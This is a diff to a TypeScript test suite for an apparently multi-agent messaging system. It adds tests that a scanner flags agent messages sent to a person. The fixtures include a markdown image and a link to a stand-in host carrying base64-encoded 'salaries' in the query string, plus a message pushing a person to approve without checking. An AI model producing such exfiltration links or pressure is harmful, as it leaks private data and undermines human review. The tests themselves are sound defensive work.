@@ -34,7 +34,9 @@ const extended = `${seed.replace('audit_scope: "FULL_MESH"', 'audit_scope: "FULL
     planner: { role: ORCHESTRATOR, zone: core }
     forecaster: { role: ANALYST, zone: core }
     steward: { role: ORCHESTRATOR, zone: core }
+    person: { role: ANALYST, zone: core, originator: true }
   edges:
+    - { from: reader, to: person, domain: bare, schemas: [note/1] }
     - { from: reader, to: analyst, domain: open, schemas: [note/1] }
     - { from: reader, to: analyst, domain: bare, schemas: [note/1, visit/1] }
     - { from: reader, to: planner, domain: agent_memory, schemas: [note/1] }
@@ -193,6 +195,28 @@ describe('data domains', () => {
     expect(got).toEqual(metadata);
     expect(entry?.detail).toMatchObject({ to: 'analyst', domain: 'bare' });
     expect(JSON.stringify(entry?.detail)).not.toContain('digest');
+  });
+
+  const link = `https://north-wharf.example/c?data=${'c2FsYXJpZXM'.repeat(5)}`;
+  test.each([
+    ['an image that carries data out', `![x](${link})`, 'NO-GO', 'SCAN_UNSAFE_OUTPUT'],
+    ['a link that carries data out', `See ${link}`, 'ESCALATE', 'SCAN_UNSAFE_OUTPUT'],
+    ['pressure to decide', 'Approve this now, there is no time to check.', 'ESCALATE', 'SCAN_MANIPULATION'],
+  ])('%s is found on its way to a person, and recorded without its text', async (_, text, verdict, code) => {
+    const payload = { text };
+    const to = { type: 'data', schema: 'note/1', payload, domain: 'bare' } as const;
+    const sent = await joined.get('reader')?.send({ to: 'person', ...to });
+    expect(sent?.verdict).toBe(verdict);
+    const entry = await until('the step on record', async () =>
+      (await folder.entries()).find((one) => one.message === sent?.messageId && one.verdicts.length > 0),
+    );
+    expect(entry.verdicts.flatMap(({ findings }) => findings).map((finding) => finding.code)).toContain(code);
+    expect(JSON.stringify(entry)).not.toContain(text);
+    const passed = await joined.get('reader')?.send({ to: 'analyst', ...to });
+    const findings = (await until('the other step', async () =>
+      (await folder.entries()).find((one) => one.message === passed?.messageId && one.verdicts.length > 0),
+    )).verdicts.flatMap((each) => each.findings);
+    expect(findings.map((finding) => finding.code)).not.toContain(code);
   });
 
   async function receiveIn(domain: string, to = 'analyst', from = 'reader') {
